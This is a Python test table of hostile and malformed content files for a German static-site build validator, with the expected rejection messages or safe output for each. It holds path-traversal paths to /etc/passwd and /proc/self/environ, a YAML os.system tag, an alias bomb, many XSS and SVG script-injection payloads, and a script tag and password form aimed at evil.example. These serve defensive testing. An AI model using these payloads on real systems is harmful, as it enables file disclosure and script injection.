"""A table of hostile and broken content files, as careless or hostile editors write them.

Each case is one small fixture (a file or two below content/) and its expected outcome:
- REJECTED: the build fails, and one German message line names the case's first file and
  contains every one of `expect` (what is wrong, and where);
- ACCEPTED: the build succeeds, `absent` appears in no output at all (pages, feeds,
  calendars, JSON, e-mail, search index), `inert` (markup an editor typed as text) appears
  in no place where it would be markup (pages, the HTML in feeds, JSON as served), and
  `present` shows the file was really used.

`SECRET` is the text of a file outside content/ (and of an environment variable of the
build): no case may ever get it published. test_hostile.py builds all rejected cases in
one run (every problem of every file at once) and all accepted ones in another.
"""

import dataclasses

SECRET = "GEHEIMNIS-7f3a9c"
# A whole 1×1 PNG: a file Pillow cannot decode is reported as broken (iq_core.images).
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c63606060f80f00010401005fe5c34b0000000049454e44ae426082")
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
SECTIONS = "## Ausgangslage/Herausforderung\n\nA\n\n## Umsetzung\n\nB\n\n## Fazit\n\nC\n"


@dataclasses.dataclass(frozen=True)
class Case:
    id: str
    files: dict
    expect: tuple = ()        # rejected: parts of the message naming the first file
    absent: tuple = ()        # accepted: in no output
    inert: tuple = ()         # accepted: only as text (escaped), never as markup
    missing: tuple = ()       # accepted: files that must not be in the public build
    present: tuple = ()       # accepted: (output file, text) pairs
    links: tuple = ()         # (path below content/, target): symbolic links; "SECRET" = outside

    @property
    def rejected(self):
        return bool(self.expect)

    @property
    def first_file(self):
        return next(iter(self.files), None) or self.links[0][0]


def page(name, head=None, body="Text."):
    """A page; its own title by default, so no two pages of the table share an address."""
    head = head or f"title: Seite {name}"
    return {f"pages/{name}.md": f"---\n{head}\n---\n{body}\n"}


def event(name, head="", body="Beschreibung."):
    return {f"events/2026-05-04-{name}.md":
            f"---\ntitle: Termin {name}\nstart: 2026-05-04 10:00\n{head}\n---\n{body}\n"}


def issue(number, head="", body="Liebe Leserinnen und Leser,\n\n## Artikel\n\nText."):
    return {f"newsletter/2026-{number:02d}.md":
            f"---\nissue: {number}\nyear: 2026\ndate: 2026-0{1 + number % 9}-01\n"
            f"summary: Ausgabe {number}\n{head}\n---\n{body}\n"}


def sheet(name, head="", body=SECTIONS):
    return {f"good-practice/{name}.md":
            f"---\ntitle: Steckbrief {name}\nsubtitle: Untertitel\ndate: 2024-05-01\n"
            "criteria:\n  innovative: true\naudiences: [Jobcenter]\n"
            "instrument:\n  type: Instrument\n  name: Karten\n  description: Karten.\n"
            f"provider: Träger e.V.\n{head}\n---\n{body}\n"}


OUTSIDE = "führt aus dem Ordner content/ heraus"
NOT_ALLOWED = "ist nicht erlaubt"

REJECTED = [
    # Paths that leave content/ (Pelican itself would copy their target).
    Case("attach-traversal", page("r-attach", body="[x]({attach}/../geheim.txt)"), ("Zeile 4", OUTSIDE)),
    Case("attach-proc-environ", page("r-environ", body="[x]({attach}/../../../../../../../../proc/self/environ)"), (OUTSIDE,)),
    Case("static-etc-passwd", page("r-passwd", body="![Datei]({static}/../../../../../../etc/passwd)"), (OUTSIDE,)),
    Case("static-pelicanconf", page("r-conf", body="[x]({static}/../../pelicanconf.py)"), (OUTSIDE,)),
    Case("old-bar-syntax", page("r-bar", body="[x](|attach|../../geheim.txt)"), (OUTSIDE,)),
    Case("relative-image-outside", page("r-relout", body="![Geheim](../../geheim.txt)"), (OUTSIDE,)),
    Case("summary-attach", page("r-sumattach", head="title: S\nsummary: '[x]({attach}/../geheim.txt)'"), ("Schlüssel „summary“", OUTSIDE)),
    Case("newsletter-image-outside", issue(1, head="image:\n  src: '{static}/../geheim.txt'\n  alt: Bild"), ("image.src", OUTSIDE)),
    Case("placeholder-in-title-attribute", page("r-attrtrick", body="<a href=\"https://example.org/\" title=\"x' src='{attach}/../geheim.txt\">x</a>"), ("Platzhalter",)),
    Case("unknown-placeholder", page("r-tag", body="[x]({tag}geheim)"), ("Platzhalter „{tag}“",)),
    # Symbolic links.
    Case("symlink-image", {}, ("Verknüpfung",), links=(("images/r-link.png", "SECRET"),)),
    Case("symlink-page", {}, ("Verknüpfung",), links=(("pages/r-link.md", "SECRET"),)),
    Case("symlink-folder", {}, ("Der Ordner ist eine Verknüpfung",), links=(("images/r-linkdir", "/etc"),)),
    # Strict front matter.
    Case("duplicate-status", page("r-dup", head="title: D\nstatus: draft\nstatus: published"), ("Zeile 4", "„status“", "zweimal", "Zeile 3")),
    Case("duplicate-nested", sheet("r-dupnested", head="links:\n  - title: A\n    title: B\n    url: https://example.org/"), ("zweimal",)),
    Case("anchor-alias", page("r-alias", head="title: &t Titel\nsummary: *t"), ("Anker (&t)",)),
    Case("alias-bomb", page("r-bomb", head="title: Bombe\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\nh: [*g, *g, *g, *g, *g, *g, *g, *g, *g]"), ("Verweise (*a)",)),
    Case("merge-key", page("r-merge", head="title: M\n<<: {summary: x}"), ("Zusammenführungen",)),
    Case("python-tag", page("r-pytag", head="title: !!python/object/apply:os.system ['id']"), ("Typangaben",)),
    Case("binary-tag", page("r-binary", head="title: T\nsummary: !!binary aGFsbG8="), ("Typangaben",)),
    Case("deep-nesting", page("r-deep", head="title: T\nx: " + "[" * 40 + "]" * 40), ("verschachtelt",)),
    Case("huge-number", {"newsletter/2026-02.md": "---\nissue: " + "9" * 5000 + "\nyear: 2026\ndate: 2026-03-01\nsummary: S\n---\nText\n"}, ("Zahl", "zu lang")),
    Case("issue-too-big", {"newsletter/2026-03.md": "---\nissue: 1000000000000000000000000000000\nyear: 2026\ndate: 2026-04-01\nsummary: S\n---\nText\n"}, ("Schlüssel „issue“",)),
    Case("issue-zero", {"newsletter/2026-04.md": "---\nissue: 0\nyear: 2026\ndate: 2026-05-01\nsummary: S\n---\nText\n"}, ("von 1 bis 99",)),
    Case("title-yes", page("r-yes", head="title: yes"), ("„yes“ liest YAML als Ja/Nein",)),
    Case("title-number", page("r-number", head="title: 2025"), ("„2025“ liest YAML als Zahl",)),
    Case("title-list", page("r-list", head="title: [a, b]"), ("eine Liste",)),
    Case("title-newline", page("r-newline", head='title: "Erste Zeile\\nBEGIN:VEVENT"'), ("Zeilenumbruch",)),
    Case("title-too-long", page("r-longtitle", head="title: " + "Sehr langer Titel " * 30), ("zu lang",)),
    Case("header-too-long", page("r-longhead", head="title: T\nsummary: " + "x" * 70000), ("Kopfbereich ist mit",)),
    Case("status-capitalised", page("r-status", head="title: T\nstatus: Draft"), ("„Draft“ ist kein gültiger Status",)),
    Case("key-in-other-case", page("r-keycase", head="title: T\nStatus: draft"), ("Schlüssel „Status“", "Meinten Sie „status“?")),
    Case("number-as-key", page("r-numkey", head="title: T\n1: eins"), ("kein Schlüssel",)),
    Case("lang-en-event", event("r-lang", head="lang: en"), ("Schlüssel „lang“", "nur auf Deutsch")),
    Case("lang-en-page", page("r-langpage", head="title: T\nlang: en"), ("nur auf Deutsch",)),
    Case("year-0001", page("r-year1", head="title: T\ndate: 0001-01-01"), ("Das Jahr 1",)),
    Case("year-9999", event("r-year9999", head="end: 9999-12-31 23:59"), ("Das Jahr 9999",)),
    Case("date-does-not-exist", page("r-feb30", head="title: T\ndate: 2025-02-30"), ("kein gültiges Datum",)),
    Case("tab-indent", page("r-tab", head="title: T\nimage:\n\tsrc: x.png"), ("Tabulator",)),
    Case("colon-in-value", page("r-colon", head="title: Thema: Untertitel"), ("Doppelpunkt",)),
    Case("no-header", {"pages/r-nohead.md": "Nur Text.\n"}, ("Kopfbereich fehlt",)),
    Case("header-not-closed", {"pages/r-open.md": "---\ntitle: T\nText ohne Ende des Kopfbereichs\n"}, ("Die Zeile „---“, die den Kopfbereich schließt, fehlt",)),
    Case("empty-file", {"pages/r-empty.md": ""}, ("Kopfbereich fehlt",)),
    Case("not-utf8", {"pages/r-latin1.md": "---\ntitle: Grüße\n---\nText\n".encode("latin-1")}, ("UTF-8", "Zeile 2")),
    Case("file-too-big", {"pages/r-big.md": "---\ntitle: T\n---\n" + "Text. " * 100_000}, ("größer als 500 KB",)),
    # Hidden characters.
    Case("nul-in-body", page("r-nul", body="a\x00b"), ("Zeile 4", "U+0000")),
    Case("bell-escape-in-uid", event("r-uid", head='uid: "abc\\x07\\r\\nATTENDEE:x"'), ("Schlüssel „uid“", "U+0007")),
    Case("right-to-left-override", page("r-rlo", body="Preis: 100 \u202e€ 001"), ("Richtungsumkehr", "U+202E")),
    Case("uid-with-spaces", event("r-uidspace", head="uid: 'mein termin'"), ("Kalender-Kennung",)),
    # HTML that is not allowed.
    Case("script", page("r-script", body="<script>alert('x')</script>"), ("Zeile 4", "<script>", NOT_ALLOWED)),
    Case("script-mixed-case", page("r-script2", body="<ScRiPt src=//evil.example/x.js></ScRiPt>"), ("<script>",)),
    Case("iframe", page("r-iframe", body='<iframe src="https://www.youtube.com/embed/x"></iframe>'), ("<iframe>", "Datenschutz")),
    Case("object-embed", page("r-object", body='<object data="x.swf"></object>'), ("<object>",)),
    Case("form", page("r-form", body='<form action="https://evil.example/"><input name="pw"></form>'), ("<form>",)),
    Case("svg-onload", page("r-svgtag", body="<svg onload=alert(1)></svg>"), ("<svg>",)),
    Case("style-element", page("r-style", body="<style>body{display:none}</style>"), ("<style>",)),
    Case("meta-refresh", page("r-meta", body='<meta http-equiv="refresh" content="0;url=https://evil.example/">'), ("<meta>",)),
    Case("event-handler", page("r-onerror", body='<img src="x.png" alt="x" onerror="alert(1)">'), ("„onerror“", "Skript")),
    Case("attr-list-onclick", page("r-attrlist", body='## Titel {: onclick="alert(1)" }'), ("„onclick“",)),
    Case("style-attribute", page("r-styleattr", body='<p style="position:fixed">x</p>'), ("„style“",)),
    Case("javascript-link", page("r-js", body="[klick](javascript:alert(1))"), ("javascript:",)),
    Case("javascript-entity", page("r-jsentity", body='<a href="java&#115;cript:alert(1)">x</a>'), ("javascript:",)),
    # Markdown turns the tab into spaces: no scheme any more, a link that leads nowhere.
    Case("javascript-tab", page("r-jstab", body='<a href="java\tscript:alert(1)">x</a>'), ("führt ins Leere",)),
    Case("javascript-newline", page("r-jsnl", body='<a href="java&#10;script:alert(1)">x</a>'), ("javascript:",)),
    Case("data-url", page("r-data", body="[x](data:text/html;base64,PHNjcmlwdD4=)"), ("data:",)),
    Case("summary-javascript", page("r-sumjs", head="title: T\nsummary: '[x](javascript:alert(1))'"), ("Schlüssel „summary“", "javascript:")),
    Case("summary-foreign-image", page("r-sumimg", head="title: T\nsummary: '![x](https://tracker.example/p.png)'"), ("anderen Website",)),
    Case("foreign-image", page("r-img", body="![Zähler](https://tracker.example/pixel.png)"), ("anderen Website", "Datenschutz")),
    Case("protocol-relative-image", page("r-img2", body='<img src="//tracker.example/p.png" alt="x">'), ("anderen Website",)),
    Case("mailto-with-cc", page("r-mailto", body="[Mail](mailto:a@example.org?cc=b@example.org&bcc=c@example.org)"), ("E-Mail-Link", "?")),
    Case("image-without-alt", page("r-noalt", body="![](../images/r-bild.png)") | {"images/r-bild.png": PNG}, ("Alternativtext",)),
    Case("image-wrong-case", page("r-case", body="![Bild](../images/R-Case.PNG)") | {"images/r-case.png": PNG}, ("gibt es nicht", "Meinten Sie „../images/r-case.png“?")),
    Case("link-to-missing-page", page("r-missing", body="[Kontakt](kontakkt.md)") | page("r-kontakt"), ("zeigt auf eine Datei, die es nicht gibt",)),
    Case("h1-in-newsletter", issue(5, body="# Newsletter\n\nText"), ("einzelnen #",)),
    # Files the site would silently not read, or must not publish.
    Case("upper-case-ending", {"pages/r-upper.MD": "---\ntitle: T\n---\nx\n"}, ("„.MD“", "r-upper.md")),
    Case("md-txt", {"pages/r-word.md.txt": "---\ntitle: T\n---\nx\n"}, ("„r-word.md“",)),
    Case("word-document", {"newsletter/r-ausgabe.docx": b"PK\x03\x04"}, ("nur Markdown-Dateien",)),
    Case("html-file-in-images", {"images/r-seite.html": "<script>alert(1)</script>"}, ("„.html“",)),
    Case("svg-with-script", {"images/r-bild.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}, ("<script>",)),
    Case("svg-onload-file", {"images/r-onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}, ("„onload“",)),
    Case("svg-external", {"images/r-extern.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://tracker.example/p.png"/></svg>'}, ("verweist auf",)),
    # Addresses.
    Case("slug-with-dot", page("r-sitemap", head="title: T\nslug: sitemap.xml"), ("„sitemap.xml“ taugt nicht als Adresse",)),
    Case("slug-traversal", page("r-slugtrav", head="title: T\nslug: ../../etc"), ("taugt nicht als Adresse",)),
    Case("slug-reserved", page("r-termine", head="title: T\nslug: termine"), ("„termine/“ gehört einem Bereich",)),
    Case("slug-twice", page("r-twice-b", head="title: B\nslug: r-twice") | page("r-twice-a", head="title: A\nslug: r-twice"), ("„r-twice/“ hat schon", "r-twice-a.md")),
    Case("factsheet-slug-reserved", sheet("r-kriterium", head="slug: kriterium"), ("gehört schon zum Archiv",)),
    # Front-matter addresses.
    Case("event-javascript-url", event("r-jsurl", head="registration_url: javascript:alert(1)"), ("registration_url", "keine vollständige Internetadresse")),
    Case("event-url-with-quote", event("r-quoteurl", head="registration_url: 'https://example.org/\"><script>'"), ("registration_url", "das Zeichen „\"“")),
    Case("sheet-link-data-url", sheet("r-dataurl", head="links:\n  - title: X\n    url: data:text/html,x"), ("links: url",)),
    Case("sheet-mail-with-cc", sheet("r-mailcc", head="contact:\n  email: a@example.org?cc=b@example.org"), ("E-Mail-Adresse",)),
    Case("sheet-audience-too-long", sheet("r-audience", head="topics: [" + "Sehr langes Thema " * 20 + "]"), ("topics", "zu lang")),
    # Found by an attack on the first version of these defences.
    Case("ampersand-in-file-name", page("r-amp", body='Siehe [FAQ](q&a.md#"><svg/onload=alert(1)>).') | page("q&a", head="title: Fragen r-amp"),
         ("Der Name der Datei „pages/q&a.md“",)),
    Case("odd-static-file-name", {"images/x\"><svg onload=alert(1)>.png": PNG}, ("Dateiname enthält Zeichen",)),
    Case("svg-entity", {"images/r-entity.svg": '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'}, ("Entitäten",)),
    Case("svg-xslt", {"images/r-xslt.svg": '<?xml-stylesheet type="text/xsl" href="r-t.svg"?><svg xmlns="http://www.w3.org/2000/svg"/>'}, ("Anweisung",)),
    Case("svg-fill-url", {"images/r-fill.svg": '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(//tracker.example/p#x)"/></svg>'}, ("von anderswo",)),
    Case("svg-escaped-import", {"images/r-import.svg": '<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport url(x.css);</style></svg>'}, ("von anderswo",)),
    Case("svg-xhtml-inside", {"images/r-xhtml.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:img srcset="https://tracker.example/p.png 1x"/></svg>'}, ("enthält HTML",)),
    Case("svg-html-root", {"images/r-root.svg": '<html xmlns="http://www.w3.org/1999/xhtml"><body><form action="javascript:alert(1)"/></body></html>'}, ("kein SVG-Bild",)),
    Case("svg-animated-href", {"images/r-anim.svg": '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>'}, ("Animation",)),
    Case("overwrite-generated-calendar", page("r-ics", body="[Kalender](../termine/termine.ics)") | {"termine/termine.ics": "BEGIN:VCALENDAR\nEND:VCALENDAR\n"},
         ("liegt nicht im Ordner content/images/",)),
    Case("draft-file-next-to-page", page("r-draftfile", head="title: Geheim\nstatus: draft", body="![Foto](r-foto.png)") | {"pages/r-foto.png": PNG},
         ("liegt nicht im Ordner content/images/",)),
    Case("html-nested-deep", page("r-deep-html", body="<div>" * 300 + '<a href="r-draftfile.md">bald</a>' + "</div>" * 300), ("Ebenen",)),
    Case("list-nested-deep", page("r-deep-list", body="".join("    " * i + "- a\n" for i in range(300))), ("verschachtelt",)),
    Case("summary-link-to-page", page("r-sumlink", head="title: Anreißer r\nsummary: '[x](r-draftfile.md)'"), ("Im Anreißer",)),
    Case("title-without-letters", page("r-bang", head="title: '!!!'"), ("keine Adresse",)),
    Case("event-file-without-letters", {"events/!!!.md": "---\ntitle: Termin\nstart: 2026-05-04 10:00\n---\nText\n"}, ("Dateinamen",)),
    Case("markdown-too-slow", page("r-slow", body="![" * 30000), ("länger als",)),
    Case("html-page-file", {"pages/r-seite.html": "<html><head><title>T</title></head><body><script>alert(1)</script></body></html>"}, ("nur Markdown-Dateien",)),
    # Found by a second attack.
    Case("svg-utf16-entity", {"images/r-utf16.svg": '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'.encode("utf-16")}, ("nicht in UTF-8",)),
    Case("svg-import-after-comment", {"images/r-comment.svg": '<svg xmlns="http://www.w3.org/2000/svg"><style><!-- x -->@import url(https://tracker.example/e.css);</style></svg>'}, ("von anderswo",)),
    Case("svg-image-set", {"images/r-imageset.svg": '<svg xmlns="http://www.w3.org/2000/svg" style="background-image:image-set(\'https://tracker.example/a.png\' 1x)"/>'}, ("von anderswo",)),
    Case("svg-infinite-width", {"images/r-wide.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="' + "9" * 400 + '" height="10"/>'}, ("keine sinnvolle Zahl",)),
    Case("sheet-phone-octal", sheet("r-phone", head="contact:\n  phone: 0306521666"), ("liest YAML als Zahl",)),
]

ACCEPTED = [
    Case("html-comment-removed", page("a-comment", head="title: Kommentar", body="Sichtbar-a1.\n\n<!-- GEHEIME-NOTIZ-a1 -->\n\nWeiter <!-- NOTIZ-INLINE-a1 --> im Text."),
         absent=("GEHEIME-NOTIZ-a1", "NOTIZ-INLINE-a1"), present=(("kommentar/index.html", "Sichtbar-a1"),)),
    Case("draft-page", page("a-draft", head="title: ENTWURF-MARKE-a2\nstatus: draft", body="ENTWURF-TEXT-a2"),
         absent=("ENTWURF-MARKE-a2", "ENTWURF-TEXT-a2")),
    Case("hidden-page", page("a-hidden", head="title: VERSTECKT-a3\nstatus: hidden", body="VERSTECKT-TEXT-a3"),
         absent=("VERSTECKT-a3", "VERSTECKT-TEXT-a3")),
    Case("draft-event", event("a-draftevent", head="status: draft", body="ENTWURF-TERMIN-a4"), absent=("ENTWURF-TERMIN-a4", "a-draftevent")),
    Case("draft-issue", issue(6, head="status: draft", body="ENTWURF-AUSGABE-a5\n\n## Artikel\n\nx"), absent=("ENTWURF-AUSGABE-a5",)),
    Case("draft-sheet", sheet("a-draftsheet", head="status: draft", body="ENTWURF-STECKBRIEF-a6\n\n" + SECTIONS), absent=("ENTWURF-STECKBRIEF-a6",)),
    Case("script-in-title-is-text", page("a-titlescript", head="title: '<script>alert(\"a7\")</script> Titel'\nslug: a-titel", body="Text a7."),
         inert=('<script>alert("a7")',), present=(("a-titel/index.html", "&lt;script&gt;alert"),)),
    Case("markup-in-summary-is-text", page("a-summary", head="title: Anreißer a8\nsummary: '<img src=x onerror=alert(8)> a8'"),
         inert=("<img src=x onerror",)),
    Case("script-in-event-fields", event("a-fields", head="location: '<script>a9()</script>'\norganiser: '\"><img src=x onerror=a9>'"),
         inert=("<script>a9()", "<img src=x onerror=a9")),
    Case("script-in-sheet-fields", sheet("a-sheetfields", head="project: '</script><script>a10()</script>'\ncontact:\n  name: '<b onmouseover=a10()>x</b>'"),
         inert=("<script>a10()", "<b onmouseover")),
    Case("credit-with-markup", issue(7, head="image:\n  src: ../images/a-titel.png\n  alt: Titelbild\n  credit: '© <script>a11()</script>'") | {"images/a-titel.png": PNG},
         inert=("<script>a11()",)),
    Case("secret-path-as-text", page("a-pathtext", head="title: '{attach}/../geheim.txt a12'\nslug: pfad-a12", body="Der Pfad {static}/../geheim.txt bleibt Text a12."),
         present=(("pfad-a12/index.html", "bleibt Text a12"),)),
    Case("windows-line-endings", {"pages/a-crlf.md": "---\r\ntitle: Windows a13\r\n---\r\nZeile eins a13.\r\n\r\nZeile zwei.\r\n"},
         present=(("windows-a13/index.html", "Zeile eins a13."),)),
    Case("old-mac-line-endings", {"pages/a-cr.md": "---\rtitle: Mac a14\r---\rText a14.\r"}, present=(("mac-a14/index.html", "Text a14."),)),
    Case("byte-order-mark", {"pages/a-bom.md": "\ufeff---\ntitle: BOM a15\n---\nText a15.\n"}, present=(("bom-a15/index.html", "Text a15."),)),
    Case("header-with-trailing-spaces", {"pages/a-spaces.md": "---  \ntitle: Leerzeichen a16\n---   \nText a16.\n"}, present=(("leerzeichen-a16/index.html", "Text a16."),)),
    Case("relative-image", page("a-relimg", head="title: Bild a17", body="![Ein Bild a17](../images/a-bild.png)") | {"images/a-bild.png": PNG},
         present=(("bild-a17/index.html", 'src="https://www.iq-niedersachsen.example/bilder/images/a-bild-1.png"'),)),  # its web size
    Case("image-from-content-root", page("a-rootimg", head="title: Wurzel a18", body="![Bild a18](images/a-bild2.png)") | {"images/a-bild2.png": PNG},
         present=(("wurzel-a18/index.html", '/bilder/images/a-bild2-1.png"'),)),
    Case("relative-page-link", page("a-rellink", head="title: Link a19", body="[Zur Seite a19](a-ziel.md)") | page("a-ziel", head="title: Ziel a19\nslug: ziel-a19"),
         present=(("link-a19/index.html", '/ziel-a19/">Zur Seite a19'),)),
    Case("document-download", page("a-pdf", head="title: PDF a20", body="[Flyer (PDF)](../images/a-flyer.pdf)") | {"images/a-flyer.pdf": b"%PDF-1.4\n%%EOF\n"},
         present=(("pdf-a20/index.html", '/images/a-flyer.pdf">Flyer'),)),
    Case("safe-svg", {"images/a-grafik.svg": SVG}, present=(("images/a-grafik.svg", "<rect"),)),
    Case("allowed-html", page("a-html", head="title: HTML a21", body="<details><summary>Mehr a21</summary><p>Inhalt <abbr title=\"Integration durch Qualifizierung\">IQ</abbr></p></details>\n\n| a | b |\n|:--|--:|\n| 1 | 2 |"),
         present=(("html-a21/index.html", "<details>"), ("html-a21/index.html", 'style="text-align:right"'))),
    Case("webcal-tel-mailto", page("a-links", head="title: Links a22", body="[Abo](webcal://example.org/k.ics) [Tel](tel:+49511123456) [Mail](mailto:team@example.org)"),
         present=(("links-a22/index.html", 'href="tel:+49511123456"'),)),
    Case("gender-star-and-date", page("a-german", head="title: Deutsch a23", body="16. Juni 2025 trafen sich Partner*innen und Bewerber*innen."),
         present=(("deutsch-a23/index.html", "Partner*innen und Bewerber*innen"),)),
    Case("long-event-file-name", {"events/2026-05-04-" + "ä" * 100 + ".md": "---\ntitle: Lang a25\nstart: 2026-05-04 10:00\n---\nText a25.\n"},
         present=(("termine/" + ("2026-05-04-" + "ae" * 100)[:100] + "/index.html", "Text a25."),)),
    Case("placeholder-inside-external-link", page("a-extern", head="title: Extern a26", body="<a href=\"https://example.org/?src='{filename}/pages/a-geheim.md'\">Extern a26</a>") | page("a-geheim", head="title: Geheim a26\nslug: geheimer-entwurf-a26\nstatus: draft"),
         absent=("geheimer-entwurf-a26",), present=(("extern-a26/index.html", "%7Bfilename%7D"),)),
    Case("draft-only-image", page("a-draftimg", head="title: Bild a27\nstatus: draft", body="![Nur im Entwurf](../images/a-nur-entwurf.png)") | {"images/a-nur-entwurf.png": PNG},
         missing=("images/a-nur-entwurf.png",)),
    Case("shared-image", page("a-shared1", head="title: Geteilt a28\nstatus: draft", body="![Bild](../images/a-geteilt.png)") | page("a-shared2", head="title: Auch a28", body="![Bild](../images/a-geteilt.png)") | {"images/a-geteilt.png": PNG},
         present=(("images/a-geteilt.png", "PNG"),)),
    Case("one-very-long-word", page("a-word", head="title: Wort a29", body="A" + "b" * 16000 + " Ende a29."), present=(("wort-a29/index.html", "Ende a29."),)),
    Case("issue-with-many-images", issue(9, body="Text a30.\n\n## Bilder\n\n" + "![Bild](../images/a-viele.png)\n© Foto\n\n" * 3000 + "\n" * 100_000) | {"images/a-viele.png": PNG},
         present=(("newsletter/2026-09/index.html", "Text a30."),)),
    Case("footnote-german", page("a-footnote", head="title: Fußnote a24", body="Text[^1].\n\n[^1]: Quelle a24."),
         absent=("Jump back",), present=(("fussnote-a24/index.html", "Zurück zur Fußnote 1 im Text"),)),
]
